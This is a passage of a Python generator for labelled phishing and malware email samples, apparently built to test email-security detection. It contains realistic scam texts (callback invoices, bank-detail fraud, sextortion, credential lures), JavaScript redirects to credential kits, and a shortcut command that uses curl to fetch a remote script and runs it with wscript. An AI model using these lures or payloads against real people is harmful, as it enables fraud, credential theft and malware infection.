             row(f'<table width="100%" style="font-size:13px;border-top:1px solid #ddd;">{items}</table>') +
             row(f'<p style="font-size:12px;color:#6b6c72;">{company}<br>{phone}<br>{email}</p>'
                 '<p style="font-size:11px;color:#8d9096;">If you receive an email that seems fraudulent, please check with the '
                 'business owner before paying.</p><p style="font-size:11px;color:#8d9096;">&copy; Intuit, Inc. All rights '
                 'reserved. Privacy | Security | Terms of Service</p>', "20px 32px 28px"))
    plain = (f"{company}\n\nINVOICE {number} DETAILS\nDue {due}\n{amount}\n\nReview and pay: {link.replace('&amp;', '&')}\n\n"
             f"Dear {rcpt_name},\n\n{to_plain(memo)}\n\nHave a great day,\n{company}\n\n" +
             "\n".join(f"{d}  {a}" for d, a in lines) + f"\n\n{company}\n{phone}\n{email}\n")
    return plain, web_page(inner, bg="#eceef1"), link


@sample("phish-quickbooks-callback-genuine", "phishing",
        "Genuine QuickBooks Online invoice (Intuit infrastructure, DKIM/DMARC pass) from a scammer-created company for an "
        "'antivirus auto-renewal', whose memo tells the accounting firm to call a phone number to dispute (callback).")
def a33() -> bytes:
    seed = "a33"
    sent = when("2024-11-26 13:02:55 -0800")
    rcpt = "admin@pacificledgercpa.ca"
    plain, html_body, _ = qbo_invoice(
        seed, company="Secure Device Renewal Center", rcpt_name="Customer", number="10482", due="11/27/2024",
        amount="$489.99",
        memo="Your Norton 360 Deluxe (5 devices) subscription has been auto-renewed for another year. The amount will be "
             "charged to the card on file within 24 hours.\nIf you did not authorize this renewal or wish to cancel and "
             "receive a full refund, call our billing desk immediately at +1 (808) 215-4471. Refunds cannot be processed "
             "online.",
        lines=[("Norton 360 Deluxe - 5 Devices - 1 Year Auto-Renewal", "$449.99"), ("Processing fee", "$40.00")],
        phone="+1 (808) 215-4471", email="renewals.billingdesk@gmail.com")
    body = alt(plain, html_body, f"----=_Part_{tok(seed + 'p', 8, DIGITS)}_{tok(seed + 'p2', 9, DIGITS)}.{int(sent.timestamp())}{tok(seed + 'p3', 3, DIGITS)}")
    headers = [f"Date: {rfc(utc(sent))}", "From: Secure Device Renewal Center <quickbooks@notification.intuit.com>",
               "Reply-To: renewals.billingdesk@gmail.com", f"To: {rcpt}",
               f"Message-ID: <{tok(seed + 'mid', 10, DIGITS)}.{tok(seed + 'mid2', 8, DIGITS)}.{int(sent.timestamp())}{tok(seed + 'm3', 3, DIGITS)}@ip-10-{tok(seed, 2, DIGITS)}-31-7.us-west-2.compute.internal>",
               "Subject: Invoice 10482 from Secure Device Renewal Center",
               "X-Intuit-Service: QBO-Invoice"]
    return assemble(seed, rcv="m365ca", rcpt=rcpt, auth=intuit_auth(seed), sent=sent, headers=headers, body=body,
                    sign=[("notification.intuit.com", "s1"), ("intuit.com", "s1024")])


def xero_auth(seed: str) -> Auth:
    ip, helo, rdns = ses_hop(seed, datetime(2025, 1, 1))
    return Auth(f"{tok(seed + 'x', 16, HEX)}@post.xero.com", ip, helo, rdns, "pass",
                [("post.xero.com", "xero1", "pass"), ("amazonses.com", "ihchhvubuqgjsxyuhssfvqohv7z3u4hn", "pass")],
                "pass", "post.xero.com", "reject")


def xero_invoice(seed: str, *, org: str, contact: str, number: str, amount: str, due: str, note: str) -> tuple[str, str]:
    link = f"https://in.xero.com/{tok(seed + 'inx', 40, URLSAFE.replace('-', '').replace('_', ''))}"
    inner = (row(f'<p style="font-size:18px;"><b>{org}</b></p>', "24px 32px 0") +
             row(f'<p>Hi {contact},</p><p>Here\'s invoice {number} for {amount}.</p>'
                 f'<p>The amount outstanding of {amount} is due on {due}.</p>{note}'
                 f'<p>View your bill online: <a href="{link}">{link}</a></p>'
                 '<p>From your online bill you can print a PDF, export a CSV, or create a free login and view your outstanding '
                 f'bills.</p><p>If you have any questions, please let us know.</p><p>Thanks,<br>{org}</p>') +
             row('<p style="font-size:11px;color:#888;">Sent using <a href="https://www.xero.com/" style="color:#888;">Xero</a> '
                 '&ndash; beautiful business.</p>', "16px 32px 24px"))
    plain = (f"Hi {contact},\n\nHere's invoice {number} for {amount}.\n\nThe amount outstanding of {amount} is due on {due}.\n\n"
             f"{to_plain(note.replace('</p>', chr(10) + chr(10)).replace('<br>', chr(10)))}"
             f"View your bill online: {link}\n\nFrom your online bill you can print a PDF, export a CSV, or create a free login "
             f"and view your outstanding bills.\n\nIf you have any questions, please let us know.\n\nThanks,\n{org}\n")
    return plain, web_page(inner, bg="#ffffff")


@sample("phish-xero-invoice-bank-change", "phishing",
        "Genuine Xero invoice email (post.xero.com, DKIM/DMARC pass) from an attacker-made organisation cloning a UK "
        "search provider, with a note that its bank details have changed and a Reply-To on a free-mail address.")
def a34() -> bytes:
    seed = "a34"
    sent = when("2025-07-08 09:14:37 +0100")
    rcpt = "accounts@ashbyfenwick.co.uk"
    note = ('<p><b>IMPORTANT: Please note that our bank details have changed with effect from 1 July 2025.</b> Payments made to '
            'our previous account will not be credited. Please update your records and pay to:<br>Northern Legal Searches Ltd'
            '<br>Sort code: 23-14-70<br>Account: 18837462 (Wise Business)</p>')
    plain, html_body = xero_invoice(seed, org="Northern Legal Searches Ltd", contact="Accounts",
                                    number="INV-6613", amount="GBP 2,184.60", due="15 Jul 2025", note=note)
    body = alt(plain, html_body, f"----=_Part_{tok(seed + 'p', 7, DIGITS)}_{tok(seed + 'p2', 9, DIGITS)}.{int(sent.timestamp())}{tok(seed + 'p3', 3, DIGITS)}")
    auth = xero_auth(seed)
    headers = [f"From: Northern Legal Searches Ltd <messaging-service@post.xero.com>",
               "Reply-To: northernlegalsearches.accounts@gmail.com", f"To: {rcpt}",
               "Subject: Invoice INV-6613 from Northern Legal Searches Ltd for Ashby Fenwick Solicitors",
               f"Date: {rfc(utc(sent))}", f"Message-ID: <0102{tok(seed + 'mid', 12, HEX)}-{guid(seed + 'g')}-000000@eu-west-1.amazonses.com>",
               f"Feedback-ID: ::1.eu-west-1.{tok(seed + 'fb', 44, URLSAFE)}=:AmazonSES",
               f"X-SES-Outgoing: {sent.strftime('%Y.%m.%d')}-{auth.ip}"]
    return assemble(seed, rcv="m365uk", rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body,
                    sign=[("post.xero.com", "xero1"), ("amazonses.com", "ihchhvubuqgjsxyuhssfvqohv7z3u4hn")])


@sample("phish-sage-invoice-html-redirect", "phishing",
        "'Sage Accounting invoice' from a look-alike search-provider domain on a fresh Microsoft 365 tenant, with an HTML "
        "attachment whose script redirects to a Microsoft credential kit carrying the victim's address.")
def a35() -> bytes:
    seed = "a35"
    sent = when("2024-10-02 14:36:09 +0100")
    rcpt = "accounts@ashbyfenwick.co.uk"
    target = "https://sage-inv-view." + tok(seed + "d", 7) + ".ru/inv/?e="
    codes = ",".join(str(ord(c)) for c in target)
    page = ("<html><head><meta charset=\"utf-8\"><title>Sage Accounting - Invoice SI-20418</title></head>\n"
            "<body style=\"font-family:Arial\"><p>Loading invoice, please wait...</p>\n<script>\n"
            f"var e='{rcpt}';var x=[{codes}];\n"
            "window.location.replace(String.fromCharCode.apply(null,x)+btoa(e));\n</script></body></html>\n")
    att = Leaf("text/html", page.encode(), "base64", '; name="Invoice_SI-20418.shtml"',
               'attachment; filename="Invoice_SI-20418.shtml"')
    paras = ["Dear Customer,", "",
             "Please find attached invoice SI-20418 for property searches ordered in September (12 matters). Payment is due "
             "within 14 days.", "",
             "The invoice is provided as a secure Sage Accounting document; open the attachment in your browser to view "
             "and download the PDF.", "",
             "Kind regards,", "Accounts Team", "Pennine Property Searches Ltd",
             '<span style="font-size:8.0pt;color:gray">Sent from Sage Accounting</span>']
    return outlook_mail(seed, rcv="m365uk", rcpt=rcpt, sender=("Pennine Property Searches", "accounts@pennine-propertysearches.co.uk"),
                        to=rcpt, subject="Sage Accounting: Invoice SI-20418 from Pennine Property Searches Ltd",
                        sent=sent, paras=paras, attachments=[att], region="eurprd", dmarc=None, lang="en-GB",
                        sign_domain="penninepropertysearches.onmicrosoft.com")


@sample("phish-voicemail-direct-send-html", "phishing",
        "Voicemail notification spoofing the title company's own domain through Microsoft 365 Direct Send (SPF softfail, "
        "DMARC fail with p=none), carrying an HTML 'playback' attachment that redirects to a credential page.")
def a36() -> bytes:
    seed = "a36"
    sent = when("2025-08-12 09:47:21 -0600")
    rcpt = "kbrandt@ridgelinetitle.com"
    ip = "103.145.13.212"
    auth = Auth("voicemail@ridgelinetitle.com", ip, "WIN-4J7QK2M9LTB", None, "softfail", [], "fail", TITLE, "none")
    target = f"https://vm-play.{tok(seed + 'dom', 6)}.sbs/#{b64url(rcpt)}"
    page = ("<!DOCTYPE html><html><head><meta charset=\"UTF-8\"><title>Voice Message</title></head>\n"
            "<body style=\"font-family:Segoe UI,Arial;text-align:center;padding-top:80px\">\n"
            "<img src=\"data:image/svg+xml;base64," + base64.b64encode(
                b'<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><circle cx="32" cy="32" r="30" fill="#0078d4"/>'
                b'<polygon points="26,20 46,32 26,44" fill="#fff"/></svg>').decode() + "\" alt=\"\">\n"
            "<h3>Voice message (0:47) from (720) 555-0143</h3><p>Verifying your Microsoft 365 session to play the message...</p>\n"
            "<script>setTimeout(function(){location.href=atob('" + base64.b64encode(target.encode()).decode()
            + "')},1200)</script>\n</body></html>\n")
    att = Leaf("text/html", page.encode(), "base64", '; name="VM_Playback_7205550143_0047.htm"',
               'attachment; filename="VM_Playback_7205550143_0047.htm"')
    html_body = ('<html><body style="font-family:Segoe UI,Arial;font-size:14px;">\n'
                 '<table cellpadding="8" style="border:1px solid #ddd;"><tr><td style="background:#0078d4;color:#fff;">'
                 '<b>New Voice Message</b></td></tr><tr><td>'
                 'From: (720) 555-0143<br>To: Kayla Brandt &lt;kbrandt@ridgelinetitle.com&gt;<br>Duration: 00:00:47<br>'
                 f'Received: {sent.strftime("%A, %B %d, %Y %I:%M %p")}<br><br>'
                 'The voice message is attached. Open the attachment to listen.</td></tr></table>\n'
                 '<p style="font-size:11px;color:#777;">Ridgeline Title &amp; Escrow Unified Messaging</p>\n</body></html>\n')
    plain = (f"New Voice Message\nFrom: (720) 555-0143\nTo: Kayla Brandt <kbrandt@ridgelinetitle.com>\nDuration: 00:00:47\n\n"
             "The voice message is attached. Open the attachment to listen.\n")
    body = mixed(f"----=_NextPart_000_{tok(seed + 'np', 4, HEX).upper()}_01DB{tok(seed + 'np2', 4, HEX).upper()}.{tok(seed + 'np3', 8, HEX).upper()}",
                 [alt(plain, html_body, f"----=_NextPart_001_{tok(seed + 'np', 4, HEX).upper()}_01DB{tok(seed + 'np2', 4, HEX).upper()}.{tok(seed + 'np3', 8, HEX).upper()}"), att])
    headers = [f"From: \"Voicemail Service\" <voicemail@ridgelinetitle.com>", f"To: {rcpt}",
               f"Subject: New voicemail from (720) 555-0143 - 0:47 sec - {sent.strftime('%m/%d/%Y')}",
               f"Date: {rfc(sent)}", f"Message-ID: <{tok(seed + 'mid', 12, DIGITS)}.{tok(seed + 'm2', 6, HEX)}@ridgelinetitle.com>",
               "X-Priority: 1", "X-Mailer: Microsoft Outlook 16.0"]
    return assemble(seed, rcv="m365", rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body)


@sample("phish-efax-html-smuggling", "malware",
        "Fake eFax 'new fax, 3 pages' notification to a Toronto law firm from a throwaway domain with an HTML attachment "
        "that smuggles a zip containing a .pdf.lnk shortcut (HTML smuggling dropper).")
def a37() -> bytes:
    seed = "a37"
    sent = when("2024-07-16 10:05:13 -0400")
    rcpt = "reception@okaforlindqvist.ca"
    dom = "efax-messaging.net"
    ip = "45.137.21.66"
    auth = Auth(f"message@{dom}", ip, f"srv1.{dom}", None, "pass", [], None, dom)
    lnk = F.lnk_shortcut(r"C:\Windows\System32\cmd.exe",
                         "/c curl -s -o %TEMP%\\f.js https://fax-view-docs.icu/v/f.js && wscript %TEMP%\\f.js")
    z = F.zip_archive([("Fax_4165550199_3pg.pdf.lnk", lnk)])
    page = smuggle_html("eFax Message Viewer", "Fax_4165550199_3pg.zip", z, "application/zip",
                        "eFax &ndash; Message from 416-555-0199 (3 pages)")
    att = Leaf("text/html", page.encode(), "base64", '; name="eFax_4165550199.html"',
               'attachment; filename="eFax_4165550199.html"')
    html_body = ('<html><body style="font-family:Arial;font-size:13px;">\n<p><b>eFax&reg;</b></p>\n'
                 '<p>You have received a 3 page fax at 2024-07-16 10:04:58 EDT.</p>\n'
                 '<p>* The reference number for this fax is tor1_did22-1721138698-4165550199-31.</p>\n'
                 '<p>Please open the attached file to view your fax.</p>\n'
                 '<p>Thank you for using the eFax service!</p>\n</body></html>\n')
    plain = to_plain(html_body.replace("</p>", "</p>\n"))
    return phpmailer_mail(seed, rcv=CALAW_MX, rcpt=rcpt, from_=f"eFax <message@{dom}>", to=rcpt,
                          subject="eFax message from \"4165550199\" - 3 page(s), Caller-ID: 416-555-0199",
                          sent=sent, html_body=html_body, plain=plain, auth=auth, attachments=[att])


@sample("phish-callback-geeksquad-pdf", "phishing",
        "Callback-invoice scam to a home-buyer client from a Gmail account: a 'Geek Squad annual plan renewed $399.99' "
        "PDF invoice whose only action is a phone number to call for a refund; no link.")
def a38() -> bytes:
    seed = "a38"
    sent = when("2024-05-21 07:41:29 -0500")
    rcpt = "pat.hollis@sbcglobal.net"
    pdf_bytes = F.pdf([
        "GEEK SQUAD PROTECTION - INVOICE",
        "Invoice No: GS-88174-2290       Date: 05/21/2024",
        "",
        "Bill To: Valued Customer",
        "Product: Geek Squad Total Tech Support - Annual Plan (Auto-Renewal)",
        "Devices covered: 3        Term: 12 months",
        "Amount: $399.99      Payment method: Auto-debit",
        "",
        "If you did not authorize this renewal, call our Customer Support",
        "within 24 hours to cancel and receive a refund:",
        "+1 (855) 612-9038",
        "",
        "Thank you for choosing Geek Squad.",
    ], title="Invoice GS-88174-2290")
    att = attachment("application/pdf", "INV_GS-88174-2290.pdf", pdf_bytes)
    paras = ["Dear Customer,", "",
             "Thank you for renewing your membership. Your annual plan has been renewed successfully and $399.99 will be "
             "debited from your account within 24 hours. Please find the invoice attached for your records.", "",
             "For any queries or to cancel, contact our support team: +1 (855) 612-9038", "",
             "Regards,", "Billing Department"]
    return gmail_mail(seed, rcv="yahoo", rcpt=rcpt, sender=("Billing Department", "kellyrwaters4472@gmail.com"),
                      to=rcpt, subject="Order Confirmation - GS-88174-2290", sent=sent, paras=paras, attachments=[att])


# --------------------------------------------------------------------------------------------------------------
# attacks 39-50: abused payment platforms, sextortion, account lures, BEC, forms
# --------------------------------------------------------------------------------------------------------------

@sample("phish-paypal-invoice-callback", "phishing",
        "Genuine PayPal invoice (service@paypal.com, DKIM/DMARC pass) from a fraudster account billing a real-estate agent "
        "for a 'Bitcoin purchase', with a note telling her to call a phone number if she did not authorize it.")
def a39() -> bytes:
    seed = "a39"
    sent = when("2025-06-30 05:12:40 -0700")
    rcpt = "alicia.reyes@cedarpointrealty.com"
    ip = f"173.0.84.{int(tok(seed, 2, DIGITS)) + 100}"
    auth = Auth("service@paypal.com", ip, "mx0.slc.paypal.com", f"mx{tok(seed + 'mx', 1, '1234')}.slc.paypal.com", "pass",
                [("paypal.com", "pp-dkim1", "pass")], "pass", "paypal.com", "reject")
    inv = f"INV2-{tok(seed + 'i1', 4, UPALNUM)}-{tok(seed + 'i2', 4, UPALNUM)}-{tok(seed + 'i3', 4, UPALNUM)}-{tok(seed + 'i4', 4, UPALNUM)}"
    link = f"https://www.paypal.com/invoice/p/#{inv.replace('-', '')}"
    note = ("Your PayPal account has been charged $949.00 USD for a Bitcoin (BTC) purchase. If you did not make this "
            "purchase or want to cancel, call PayPal Billing Support at +1 (888) 492-7316 within 24 hours. Do not pay this "
            "invoice online.")
    inner = (row('<img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="40" alt="PayPal">', "24px 32px 0") +
             row('<p style="font-size:22px;color:#001c64;"><b>Crypto Trade Desk sent you an invoice</b></p>'
                 '<p style="font-size:28px;"><b>$949.00 USD</b></p><p>Due on receipt</p>') +
             row(button(link, "View and Pay Invoice", "#0070e0")) +
             row(f'<p><b>Seller note to customer</b><br>{note}</p><p>Invoice number: 0031</p>') +
             row('<p style="font-size:11px;color:#687173;">Don\'t recognize this invoice? Report it to PayPal.<br>PayPal is '
                 'committed to preventing fraudulent emails. Emails from PayPal will always contain your full name.<br>'
                 'Copyright &copy; 1999-2025 PayPal, Inc. All rights reserved. PayPal, Inc., 2211 North First Street, San Jose, '
                 'CA 95131</p>', "20px 32px 28px"))
    plain = (f"Crypto Trade Desk sent you an invoice\n\n$949.00 USD\nDue on receipt\n\nView and Pay Invoice\n{link}\n\n"
             f"Seller note to customer\n{note}\n\nInvoice number: 0031\n\nCopyright 1999-2025 PayPal, Inc.\n")
    body = alt(plain, web_page(inner, bg="#f7f9fa"), f"--=_NextPart_{tok(seed + 'b', 24, HEX)}")
    headers = ["From: \"service@paypal.com\" <service@paypal.com>", f"To: {rcpt}",
               "Subject: Invoice from Crypto Trade Desk (0031)", f"Date: {rfc(sent)}",
               f"Message-ID: <{guid(seed + 'mid').replace('-', '')}@ccg01mail{tok(seed + 'cc', 2, DIGITS)}.ccg.paypal.com>",
               "X-MaxCode-Template: PPX001161", f"X-Email-Type-Id: PPX001161",
               f"PP-Correlation-Id: {tok(seed + 'pp', 13, HEX)}"]
    return assemble(seed, rcv="gmail", rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body,
                    sign=[("paypal.com", "pp-dkim1")])


@sample("phish-sextortion-spoofed-self", "phishing",
        "Bitcoin sextortion sent to a lawyer with his own address forged as the sender (SPF and DMARC fail) from a "
        "residential IP, plain text, claiming malware recorded him through the webcam.")
def a40() -> bytes:
    seed = "a40"
    sent = when("2025-11-18 02:14:37 -0300")
    rcpt = "c.okafor@okaforlindqvist.ca"
    ip = "177.23.104.66"
    auth = Auth(rcpt, ip, "[177.23.104.66]", "177-23-104-66.user.vivozap.com.br", "fail", [], "fail", CALAW, "quarantine")
    body_text = (
        "Hello Chinedu,\n\n"
        "I have to share bad news with you. Approximately few months ago I have gained access to your devices, which you "
        "use for internet browsing. After that, I have started tracking your internet activities.\n\n"
        "As you may have noticed, I sent you this email from your own account. This means I have full access to your "
        "device.\n\n"
        "I installed a Trojan on your device which records from the camera and the screen. I have video of you "
        "satisfying yourself on adult websites, and I have collected all your contacts, including clients and "
        "colleagues at the firm.\n\n"
        "Transfer exactly $1450 USD to my Bitcoin wallet: bc1q" + tok(seed + "btc", 38, "023456789acdefghjklmnpqrstuvwxyz") + "\n\n"
        "After receiving the payment, I will delete the video and you will never hear from me again. You have 48 hours "
        "since opening this email. I received a notification the moment you opened it.\n\n"
        "Don't try to reply, this email address was generated for you, and contacting the police will not help.\n")
    body = text(body_text, "plain", "7bit", "us-ascii")
    headers = [f"From: {rcpt}", f"To: {rcpt}", "Subject: Payment for your privacy", f"Date: {rfc(sent)}",
               f"Message-ID: <{tok(seed + 'mid', 8, HEX).upper()}.{tok(seed + 'm2', 8, HEX).upper()}@{CALAW}>",
               "X-Mailer: Microsoft Outlook Express 6.00.2900.5512", "X-Priority: 3"]
    return assemble(seed, rcv=CALAW_MX, rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body)


@sample("phish-m365-password-expiry-pagesdev", "phishing",
        "Microsoft 365 'password expires today' notice to a CPA firm from a compromised veterinary clinic's mailbox "
        "(authentication passes), linking to a Cloudflare Pages kit with the victim's address base64-encoded in the fragment.")
def a41() -> bytes:
    seed = "a41"
    sent = when("2024-04-09 08:03:15 -0400")
    rcpt = "bookkeeping@kesslerwynncpa.com"
    link = f"https://ms365-passkeep-{tok(seed + 'pg', 5)}.pages.dev/#{base64.b64encode(rcpt.encode()).decode()}"
    paras = [
        '<table width="520" cellpadding="0" cellspacing="0" style="border:1px solid #e5e5e5;font-family:Segoe UI,Arial;">'
        '<tr><td style="background:#f25022;height:4px;"></td></tr><tr><td style="padding:20px 26px;">'
        '<p style="font-size:18px;">Password expiry notice</p>'
        f'<p>The password for <b>{rcpt}</b> expires today, April 9, 2024.</p>'
        '<p>To keep using your current password and avoid losing access to Outlook, Teams and OneDrive, confirm it below.</p>'
        f'<p><a href="{link}" style="background:#0078d4;color:#fff;padding:9px 22px;text-decoration:none;">Keep current password</a></p>'
        '<p style="font-size:11px;color:#777;">Microsoft 365 Admin Center &middot; kesslerwynncpa.com</p></td></tr></table>',
    ]
    return outlook_mail(seed, rcv="m365", rcpt=rcpt, sender=("Microsoft 365 Admin", "frontdesk@cypressridgevet.com"),
                        to=rcpt, subject=f"Password expiry notice for {rcpt}", sent=sent, paras=paras, policy_="none")


@sample("phish-gws-storage-slides", "phishing",
        "Google Workspace 'storage full, incoming mail on hold' lure to a real-estate agent from a look-alike of the "
        "brokerage's domain via SMTP2GO, linking to a published Google Slides deck that carries the onward kit link.")
def a42() -> bytes:
    seed = "a42"
    sent = when("2025-01-14 11:27:48 -0500")
    rcpt = "jordan.pike@cedarpointrealty.com"
    dom = "cedarpoint-realty.net"
    ip = f"103.2.140.{int(tok(seed, 2, DIGITS)) + 100}"
    helo = f"e2i{int(tok(seed + 'e', 3, DIGITS))}.smtp2go.com"
    auth = Auth(f"bounce-{tok(seed + 'b', 8, DIGITS)}-{tok(seed + 'b2', 6, DIGITS)}@smtpservice.net", ip, helo, helo, "pass",
                [(dom, f"s{tok(seed + 's', 6, DIGITS)}", "pass"), ("smtpservice.net", "maxzs8", "pass")], "pass", dom)
    link = f"https://docs.google.com/presentation/d/e/2PACX-1v{tok(seed + 'sl', 84, URLSAFE)}/pub?start=false&amp;loop=false&amp;delayms=3000"
    inner = (row('<span style="font-size:22px;color:#5f6368;">Google Workspace</span>', "24px 32px 0") +
             row('<p style="font-size:18px;color:#202124;">Your storage is full</p>'
                 f'<p>Hi Jordan,</p><p>Your account <b>{rcpt}</b> has used 30 GB of 30 GB. New emails to your inbox are being '
                 'held and will be returned to senders after 48 hours, including messages from clients and lenders.</p>'
                 '<p>Your administrator has enabled one-time free storage release. Follow the steps in the guide below to release '
                 'your held messages.</p>') +
             row(button(link, "Release held messages", "#1a73e8")) +
             row('<p style="font-size:11px;color:#5f6368;">Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043</p>',
                 "20px 32px 28px"))
    plain = (f"Your storage is full\n\nHi Jordan,\n\nYour account {rcpt} has used 30 GB of 30 GB. New emails to your inbox "
             f"are being held.\n\nRelease held messages: {link.replace('&amp;', '&')}\n")
    body = alt(plain, web_page(inner), f"----={tok(seed + 'bd', 32, HEX)}")
    headers = [f"Date: {rfc(sent)}", f"From: Google Workspace <noreply@{dom}>", f"To: {rcpt}",
               "Subject: Storage full: incoming messages are on hold for jordan.pike@cedarpointrealty.com",
               f"Message-Id: <{tok(seed + 'mid', 20, ALNUM)}@smtp-relay.{dom}>",
               f"X-Smtpcorp-Track: {tok(seed + 'trk', 12, URLSAFE)}.{tok(seed + 'trk2', 11, URLSAFE)}",
               f"Feedback-ID: {tok(seed + 'fb', 6, DIGITS)}m:{tok(seed + 'fb2', 6, DIGITS)}aDjMtiN:{tok(seed + 'fb3', 6, DIGITS)}sPc2FGBJAO"]
    hop = (f"Received: from [10.176.58.103] (helo=SmtpCorp) by smtpcorp.com with esmtpsa (TLS1.3:ECDHE_X25519__RSA_PSS_RSAE_SHA256__AES_256_GCM:256)\n"
           f"\t(Exim 4.97.1-S2G)\n\t(envelope-from <{auth.mailfrom}>)\n\tid 1{tok(seed + 'eid', 5, 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ')}-{tok(seed + 'ei2', 6, UPALNUM)}-{tok(seed + 'ei3', 2, UPALNUM)};\n\t{rfc(utc(sent))}")
    return assemble(seed, rcv="gmail", rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body, hops=[hop],
                    sign=[(dom, auth.dkim[0][1]), ("smtpservice.net", "maxzs8")])


@sample("phish-canopy-mls-matrix-lookalike", "phishing",
        "Regional MLS 'unusual sign-in to your Matrix account' alert to a real-estate agent from a look-alike domain sent "
        "through Amazon SES, linking to a Matrix login clone on the same look-alike domain.")
def a43() -> bytes:
    seed = "a43"
    sent = when("2025-09-09 18:44:02 -0400")
    rcpt = "alicia.reyes@cedarpointrealty.com"
    dom = "canopymls-support.com"
    ip, helo, rdns = ses_hop(seed, sent)
    mid_core = f"0100{tok(seed + 'ses', 12, HEX)}-{guid(seed + 'sg')}-000000"
    sel = tok(seed + "sel", 32, "abcdefghijklmnopqrstuvwxyz234567")
    auth = Auth(f"{mid_core}@amazonses.com", ip, helo, rdns, "pass",
                [(dom, sel, "pass"), ("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", "pass")], "pass", dom)
    link = f"https://matrix.{dom}/Matrix/Login.aspx?ReturnUrl=%2fMatrix%2fHome&amp;sid={tok(seed + 'sid', 24, HEX)}"
    inner = (row('<span style="font-size:22px;color:#00539b;font-weight:bold;">Canopy MLS</span>', "24px 32px 0") +
             row('<p style="font-size:17px;"><b>Unusual sign-in activity</b></p><p>Hello Alicia,</p>'
                 '<p>We detected a sign-in to your Matrix account from a new device:</p>'
                 '<p>Location: Lagos, Nigeria<br>Device: Windows 10 / Chrome<br>Time: 09/09/2025 6:31 PM ET</p>'
                 '<p>If this was not you, your listings and client contacts may be at risk. Verify your account within 24 '
                 'hours to prevent suspension of MLS access.</p>') +
             row(button(link, "Secure my account", "#00539b")) +
             row('<p style="font-size:11px;color:#666;">Canopy MLS &middot; 1120 Harding Place, Charlotte, NC 28204</p>',
                 "20px 32px 28px"))
    plain = (f"Unusual sign-in activity\n\nHello Alicia,\n\nWe detected a sign-in to your Matrix account from a new device "
             f"(Lagos, Nigeria).\n\nSecure my account: {link.replace('&amp;', '&')}\n")
    body = alt(plain, web_page(inner), f"----=_Part_{tok(seed + 'p', 7, DIGITS)}_{tok(seed + 'p2', 9, DIGITS)}.{int(sent.timestamp())}{tok(seed + 'p3', 3, DIGITS)}")
    headers = [f"From: Canopy MLS Security <security@{dom}>", f"To: {rcpt}",
               "Subject: Unusual sign-in to your Matrix account", f"Date: {rfc(utc(sent))}",
               f"Message-ID: <{mid_core}@email.amazonses.com>",
               f"Feedback-ID: ::1.us-east-1.{tok(seed + 'fb', 44, URLSAFE)}=:AmazonSES",
               f"X-SES-Outgoing: {sent.strftime('%Y.%m.%d')}-{ip}"]
    return assemble(seed, rcv="gmail", rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body,
                    sign=[(dom, sel), ("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono")])


def docusign_auth(seed: str, pod: str = "NA3") -> Auth:
    ip = f"64.207.219.{int(tok(seed + 'ds', 2, DIGITS)) + 70}"
    helo = f"mail{pod.lower()}.docusign.net"
    return Auth(f"dse_{pod}@docusign.net", ip, helo, helo, "pass", [("docusign.net", "s1", "pass")], "pass",
                "docusign.net", "reject")


def docusign_envelope(seed: str, *, sender_name: str, sender_email: str, message_text: str, doc_title: str,
                      pod: str = "na3", code: bool = False) -> tuple[str, str]:
    a, acct, er = guid(seed + "a"), guid(seed + "acct"), guid(seed + "er")
    link = f"https://{pod}.docusign.net/Signing/EmailStart.aspx?a={a}&amp;etti=24&amp;acct={acct}&amp;er={er}"
    inner = (row('<img src="https://docucdn-a.akamaihd.net/olive/images/2.62.0/global-assets/email-templates/email-logo.png" '
                  'alt="Docusign" width="116">', "24px 32px 8px") +
             row('<table width="100%" cellpadding="0" cellspacing="0" style="background-color:#1E4CA1;"><tr><td align="center" '
                 f'style="padding:28px 24px;color:#ffffff;font-size:16px;">{html_escape(sender_name)} sent you a document to '
                 'review and sign.<br><br><table cellpadding="0" cellspacing="0"><tr><td bgcolor="#FFC423" style="border-radius:2px;">'
                 f'<a href="{link}" style="display:inline-block;padding:10px 24px;color:#333333;font-weight:bold;font-size:14px;'
                 'text-decoration:none;">REVIEW DOCUMENT</a></td></tr></table></td></tr></table>', "0 32px") +
             row(f'<b>{html_escape(sender_name)}</b><br><a href="mailto:{sender_email}" style="color:#2463d1;">{sender_email}</a>'
                 f'<br><br>{message_text}') +
             row('<span style="font-size:11px;color:#666666;"><b>Do Not Share This Email</b><br>This email contains a secure link '
                 'to Docusign. Please do not share this email, link, or access code with others.<br><br><b>Alternate Signing '
                 'Method</b><br>Visit Docusign.com, click \'Access Documents\', and enter the security code:<br>'
                 f'{tok(seed + "sec", 32, HEX).upper()}1<br><br><b>About Docusign</b><br>Sign documents electronically in just '
                 'minutes. It\'s safe, secure, and legally binding.<br><br><b>Questions about the Document?</b><br>If you need to '
                 'modify the document or have questions about the details in the document, please reach out to the sender by '
                 'emailing them directly.<br><br><b>Report this email or download the Docusign app</b><br>If you believe this '
                 'email was sent in error or is suspicious, report it to Docusign.</span>', "16px 32px 28px"))
    plain = (f"{sender_name} sent you a document to review and sign.\n\nREVIEW DOCUMENT: {link.replace('&amp;', '&')}\n\n"
             f"{sender_name}\n{sender_email}\n\n{to_plain(message_text)}\n\nDocument: {doc_title}\n\n"
             "Do Not Share This Email\nThis email contains a secure link to Docusign. Please do not share this email, link, or "
             "access code with others.\n")
    return plain, web_page(inner, bg="#eaeaea")


@sample("phish-docusign-genuine-envelope-wire", "phishing",
        "Genuine DocuSign envelope (docusign.net, DKIM/DMARC pass) sent from a fraudster's DocuSign account posing as the "
        "title company's escrow department, asking a buyer to sign 'updated wire instructions' and wire funds today.")
def a44() -> bytes:
    seed = "a44"
    sent = when("2025-08-27 12:19:51 -0600")
    rcpt = "r.castellano@outlook.com"
    auth = docusign_auth(seed)
    plain, html_body = docusign_envelope(
        seed, sender_name="Ridgeline Escrow Dept", sender_email="escrow@ridgeline-escrow.com",
